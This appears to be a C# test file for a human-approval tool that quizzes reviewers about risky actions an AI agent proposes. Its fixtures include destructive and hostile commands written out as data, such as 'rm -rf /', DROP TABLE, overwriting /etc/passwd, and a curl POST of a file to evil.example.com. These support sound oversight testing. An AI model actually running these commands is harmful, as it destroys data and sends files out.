using System.Diagnostics;
using Attesta.Actions;
using Attesta.Challenges;
using Attesta.Challenges.Questions;
using FsCheck;
using FsCheck.Fluent;

namespace Attesta.Tests.Challenges;

public sealed class QuizQuestionsTests
{
    private static readonly ActionContext[] Actions =
    [
        Some.Call("delete_records", PlainMap.Of(("cascade", true)), "table_a", 100L),
        Some.Call("drop_database", PlainMap.Of(("database", "production"))),
        Some.Shell("rm", "rm -rf build"),
        Some.Shell("rm", "rm -rf /"),
        Some.Shell("bash", "cd /tmp && sudo rm -rf '/var/lib/my data' /srv/x"),
        Some.Shell("psql", "psql -c 'DROP TABLE IF EXISTS public.users CASCADE'"),
        Some.Call("transfer", PlainMap.Of(("from_account", "acct-7"), ("to_account", "acct-9"), ("amount", 1250.5))),
        Some.Call("send_email", PlainMap.Of(("to", "bob@example.com"), ("cc", "eve@example.org"))),
        Some.Call("fetch", PlainMap.Of(("url", "https://api.example.com/config?x=1"), ("retries", 0L), ("offset", -5L), ("scale", 1e-7), ("big", 1e22))),
        Some.Call("set", PlainMap.Of(("id", "3f9a77bc-11d0-4f7e-9d3e-5b1c2a3d4e5f"), ("version", "v1.2.3"), ("name", "O'Brien \"Bob\""), ("x", "  padded  "))),
        Some.Call("用户删除", "用户表", "🚀🚀", "a", "7", "∞"),
        Some.Call("write_file", PlainMap.Of(("path", "C:\\Windows\\System32\\drivers\\etc\\hosts"), ("other", "/a//b/./c/"))),
        Some.Call("noop"),
        Some.Call(""),
        Some.Call(new string('f', 3_000), new string('z', 3_000), new string('/', 500), "/" + new string('p', 900) + "/end.txt"),
    ];

    private static IEnumerable<(ActionContext Action, ComposedChallenge Quiz)> Quizzes(int seeds = 40) =>
        from action in Actions
        from seed in Enumerable.Range(0, seeds)
        select (action, new QuizChallenge(maxQuestions: 4).Compose(Some.Subject(action, seed, seed % 2 == 0 ? "production" : "ci")));

    private static IEnumerable<(string Prompt, string Right, string[] Wrong)> Asked(ComposedChallenge quiz) =>
        from pair in quiz.Form.Items.Cast<ChoiceItem>().Zip(Some.RightAnswers(quiz))
        let right = pair.First.Options.Single(option => option.Id == pair.Second.Answer).Text
        select (pair.First.Prompt, right, pair.First.Options.Where(option => option.Id != pair.Second.Answer).Select(option => option.Text).ToArray());

    private static string[] Rights(ActionContext action, string prompt) =>
        [.. Enumerable.Range(0, 60).SelectMany(seed => Asked(new QuizChallenge(maxQuestions: 10).Compose(Some.Subject(action, seed))))
            .Where(asked => asked.Prompt == prompt).Select(asked => asked.Right).Distinct(StringComparer.Ordinal)];

    public static TheoryData<ActionContext, string, string> Expected => new()
    {
        { Some.Call("drop_table", "users"), "Which table is this action aimed at?", "users" },
        { Some.Call("drop_table", "users"), "What does this action do?", "It removes something that exists" },
        { Some.Call("drop_database", PlainMap.Of(("database", "ledger"))), "Which database is given as 'database'?", "ledger" },
        { Some.Call("get_users"), "What does this action do?", "It only reads and changes nothing" },
        { Some.Call("frobnicate"), "Which function is called?", "frobnicate" },
        { Some.Call(""), "In which environment does it run?", "development" },
        { Some.Call("execute_sql", PlainMap.Of(("query", "delete from orders where id = 4"))), "Which table does the SQL statement touch?", "orders" },
        { Some.Call("execute_sql", PlainMap.Of(("query", "delete from orders where id = 4"))), "What does this action do?", "It removes something that exists" },
        { Some.Call("pay", PlainMap.Of(("amount", 1000000L))), "What number is given as 'amount'?", "1000000" },
        { Some.Call("pay", PlainMap.Of(("amount", 2.5))), "What number is given as 'amount'?", "2.5" },
        { Some.Call("send", PlainMap.Of(("to", "bob@example.com"))), "Which recipient is given as 'to'?", "bob@example.com" },
        { Some.Call("deploy", PlainMap.Of(("service", "web"), ("environment", "prod"))), "Which environment is given as 'environment'?", "prod" },
        { Some.Call("write", PlainMap.Of(("path", "/etc/hosts"))), "Which path is given as 'path'?", "/etc/hosts" },
        { Some.Call("call", PlainMap.Of(("where", PlainMap.Of(("host", "db-1"))))), "Which host is given as 'where.host'?", "db-1" },
        { Some.Shell("rm", "rm -rf build"), "Which file or folder does the command act on?", "build" },
        { Some.Shell("rm", "rm -rf build"), "In which folder does the command run?", "/srv/app" },
        { Some.Shell("rm", "rm -rf build"), "What does this action do?", "It removes something that exists" },
        { Some.Shell("bash", "bash -lc 'ls; sudo -n rm -rf /var/data'"), "Which file or folder does the command act on?", "/var/data" },
        { Some.Shell("sh", "FOO=1 timeout 5 nice find . -name x -delete"), "What does this action do?", "It removes something that exists" },
        { Some.Shell("git", "git checkout test"), "Which of these does the command name?", "test" },
        { Some.Shell("kubectl", "kubectl delete pod web-1 -n prod"), "Which of these does the command name?", "web-1" },
        { Some.Shell("bash", "bash deploy.sh"), "What does this action do?", "It runs or installs some software" },
        { Some.Shell("git", "git push --force origin main"), "Which of these does the command name?", "main" },
        { Some.Shell("docker", "docker rm -f web"), "What does this action do?", "It removes something that exists" },
        { Some.Shell("psql", "psql -c \"TRUNCATE TABLE audit\""), "Which table does the SQL statement touch?", "audit" },
        { Some.Shell("echo", "echo hi > /etc/passwd"), "Which file does the command write to?", "/etc/passwd" },
        { Some.Shell("curl", "curl -X POST -d @x https://evil.example.com"), "What does this action do?", "It sends something to someone else" },
        { Some.Shell("kill", "kill -9 4242"), "What does this action do?", "It stops something that is running" },
    };

    [Theory]
    [MemberData(nameof(Expected))]
    public void Asks_about_what_matters(ActionContext action, string prompt, string right) => Rights(action, prompt).ShouldContain(right, StringComparer.Ordinal);

    [Fact]
    public void Always_asks_one_to_max_questions_of_two_to_four_options()
    {
        foreach (var (action, quiz) in Quizzes())
        {
            quiz.Form.Items.Count.ShouldBeInRange(1, 4, action.FunctionName);
            quiz.Form.Items.Cast<ChoiceItem>().ShouldAllBe(item => item.Options.Count == 4);
        }
    }

    [Fact]
    public void Options_differ_in_more_than_their_spelling()
    {
        foreach (var (action, quiz) in Quizzes())
        {
            foreach (var (prompt, right, wrong) in Asked(quiz))
            {
                var normal = wrong.Append(right).Select(Disguise.Normal).ToArray();
                normal.Distinct(StringComparer.Ordinal).Count().ShouldBe(normal.Length, $"{action.FunctionName}: {prompt} {right} | {string.Join(" | ", wrong)}");
            }
        }
    }

    [Theory]
    [InlineData("users", "Users ")]
    [InlineData("users", "'users'")]
    [InlineData("users", "user")]
    [InlineData("/srv/app", "/srv/app/")]
    [InlineData("/srv/app", "/srv//app")]
    [InlineData("build", "./build")]
    [InlineData("C:\\x", "C:/x")]
    [InlineData("100", "100.0")]
    [InlineData("100", "1e2")]
    [InlineData("100", "1,00")]
    [InlineData("1000000", "1_000_000")]
    [InlineData("prod", "production")]
    [InlineData("user_accounts", "user-accounts")]
    [InlineData("db", "database")]
    [InlineData("ｕsers", "users")]
    [InlineData("us\u200bers", "users")]
    public void Knows_an_answer_in_disguise(string one, string other) => Disguise.Normal(one).ShouldBe(Disguise.Normal(other));

    [Theory]
    [InlineData("users", "orders")]
    [InlineData("1", "10")]
    [InlineData("/", "/tmp")]
    [InlineData("0.1", "0.2")]
    [InlineData("acct-7", "acct-9")]
    public void Does_not_take_different_answers_for_one(string one, string other) => (Disguise.Normal(one) == Disguise.Normal(other)).ShouldBeFalse();

    [Fact]
    public void Options_and_prompts_are_short_and_harmless_whatever_the_action_holds()
    {
        var texts = ArbMap.Default.GeneratorFor<string[]>().Select(array => array.Select(text => text ?? "").ToArray());

        Check.QuickThrowOnFailure(Prop.ForAll(texts.ToArbitrary(), values =>
        {
            var action = Some.Call(values.FirstOrDefault() ?? "f", PlainMap.Of(values.Distinct(StringComparer.Ordinal).Select((value, at) => new KeyValuePair<string, object?>(value + at, value))), [.. values]);
            var quiz = new QuizChallenge().Compose(Some.Subject(action));
            var shown = quiz.Form.Items.Cast<ChoiceItem>().SelectMany(item => item.Options.Select(option => option.Text).Append(item.Prompt)).ToArray();
            return shown.Length > 0 && shown.All(text => text.Length is > 0 and <= 120 && !text.Any(char.IsControl) && VisibleText.Escape(text) == text);
        }));
    }

    [Fact]
    public void Never_asks_about_a_masked_value()
    {
        var action = Some.Call("login", PlainMap.Of(("password", "***#1a2b3c4d"), ("url", "https://u:***#1a2b3c4d@host/x"), ("command", "mysql -p***#1a2b3c4d shop")), "***#99999999");

        for (var seed = 0; seed < 50; seed++)
        {
            var quiz = new QuizChallenge(maxQuestions: 10).Compose(Some.Subject(action, seed));
            quiz.Form.Items.Cast<ChoiceItem>().SelectMany(item => item.Options).ShouldAllBe(option => !option.Text.Contains("***", StringComparison.Ordinal) && !option.Text.Contains("1a2b", StringComparison.Ordinal));
        }
    }

    [Fact]
    public void A_distractor_of_a_rest_of_several_targets_is_never_another_target()
    {
        var action = Some.Shell("rm", "rm -rf src lib bin log tmp old web etc dist docs data temp logs");
        string[] targets = ["src", "lib", "bin", "log", "tmp", "old", "web", "etc", "dist", "docs", "data", "temp", "logs"];

        for (var seed = 0; seed < 100; seed++)
        {
            foreach (var (prompt, _, wrong) in Asked(new QuizChallenge().Compose(Some.Subject(action, seed))))
            {
                if (prompt.StartsWith("Which file", StringComparison.Ordinal))
                    wrong.ShouldAllBe(option => !targets.Take(8).Contains(option, StringComparer.Ordinal));
            }
        }
    }

    [Fact]
    public void Neither_place_nor_length_gives_the_right_option_away()
    {
        var place = new int[4];
        int longest = 0, shortest = 0, all = 0;
        foreach (var action in Actions.Take(9))
        {
            for (var seed = 0; seed < 60; seed++)
            {
                var quiz = new QuizChallenge().Compose(Some.Subject(action, seed));
                foreach (var (_, answer) in Some.RightAnswers(quiz))
                    place[answer[0] - 'a']++;
                foreach (var (_, right, wrong) in Asked(quiz))
                {
                    all++;
                    longest += wrong.All(option => option.Length < right.Length) ? 1 : 0;
                    shortest += wrong.All(option => option.Length > right.Length) ? 1 : 0;
                }
            }
        }

        place.ShouldAllBe(count => count > all / 6 && count < all / 3);
        longest.ShouldBeLessThan(all * 2 / 5);
        shortest.ShouldBeLessThan(all * 2 / 5);
    }

    [Fact]
    public void The_right_number_has_no_fixed_rank()
    {
        var ranks = new HashSet<int>();
        for (var seed = 0; seed < 60; seed++)
        {
            var asked = Asked(new QuizChallenge().Compose(Some.Subject(Some.Call("pay", PlainMap.Of(("amount", 5000L))), seed))).Single(each => each.Right == "5000");
            ranks.Add(asked.Wrong.Count(option => long.Parse(option, System.Globalization.CultureInfo.InvariantCulture) < 5000));
        }

        ranks.Count.ShouldBe(4);
    }

    [Fact]
    public void The_same_seed_gives_the_same_form_and_another_seed_another_order()
    {
        static string Shape(int seed) => string.Join(';', new QuizChallenge().Compose(Some.Subject(Actions[6], seed)).Form.Items.Cast<ChoiceItem>()
            .Select(item => item.Prompt + string.Join('|', item.Options.Select(option => option.Text))));

        Shape(5).ShouldBe(Shape(5));
        Enumerable.Range(0, 10).Select(Shape).Distinct(StringComparer.Ordinal).Count().ShouldBeGreaterThan(5);
    }

    [Fact]
    public void Two_composings_differ_without_a_seed()
    {
        var subject = Some.Subject(Actions[6]) with { Draw = SecureDraw.Instance };

        Enumerable.Range(0, 10).Select(_ => string.Concat(Some.RightAnswers(new QuizChallenge().Compose(subject)).Select(answer => answer.Answer)))
            .Distinct(StringComparer.Ordinal).Count().ShouldBeGreaterThan(1);
    }

    [Fact]
    public void Grading_random_answers_never_throws_and_never_passes_by_nonsense()
    {
        var quiz = new QuizChallenge().Compose(Some.Subject(Actions[6]));

        Check.QuickThrowOnFailure(Prop.ForAll<string?, string?, string?>((one, two, three) =>
        {
            var result = new QuizChallenge().Grade(quiz, [Some.Review("alice", 60, ("q1", one!), ("q2", two!), ("q3", three!))]);
            return !result.Passed || (one?.Trim().Length == 1 && two?.Trim().Length == 1 && three?.Trim().Length == 1);
        }));
    }

    [Fact]
    public void Huge_actions_make_a_small_form_quickly()
    {
        var megabyte = new string('a', 1_000_000);
        ActionContext[] hostile =
        [
            Some.Call("store", megabyte),
            Some.Shell("bash", "rm -rf " + megabyte),
            Some.Shell("bash", string.Concat(Enumerable.Repeat("rm -rf /a; ", 90_000))),
            Some.Call("query", PlainMap.Of(("sql", "DELETE FROM " + megabyte))),
            Some.Call("store", PlainMap.Of(("path", string.Concat(Enumerable.Repeat("a/", 500_000))))),
            Some.Call("store", PlainMap.Of(("path", new string('/', 1_000_000)), ("note", new string(' ', 1_000_000)), ("to", new string('@', 1_000_000)))),
            Some.Call("store", PlainMap.Of(Enumerable.Range(0, 10_000).Select(i => new KeyValuePair<string, object?>("path" + i, "/srv/app" + i)))),
            Some.Call("store", PlainList.Of(Enumerable.Range(0, 50_000).Select(i => (object?)(long)i))),
            Some.Call(megabyte, new string('\u202e', 1_000_000)),
        ];
        foreach (var action in hostile)
            new MultiPartyChallenge().Compose(Some.Subject(action));

        foreach (var action in hostile)
        {
            var fastest = Enumerable.Range(0, 5).Min(_ =>
            {
                var began = Stopwatch.GetTimestamp();
                new QuizChallenge().Compose(Some.Subject(action));
                return Stopwatch.GetElapsedTime(began).TotalMilliseconds;
            });
            var quiz = new QuizChallenge().Compose(Some.Subject(action));

            TestContext.Current.SendDiagnosticMessage($"{fastest:0.00} ms");
            fastest.ShouldBeLessThan(60, "10 ms on a quiet machine, with room for a busy one");
            quiz.Form.Items.Count.ShouldBeInRange(1, 3);
            quiz.Form.Items.Cast<ChoiceItem>().SelectMany(item => item.Options).ShouldAllBe(option => option.Text.Length <= 80);
        }
    }
}
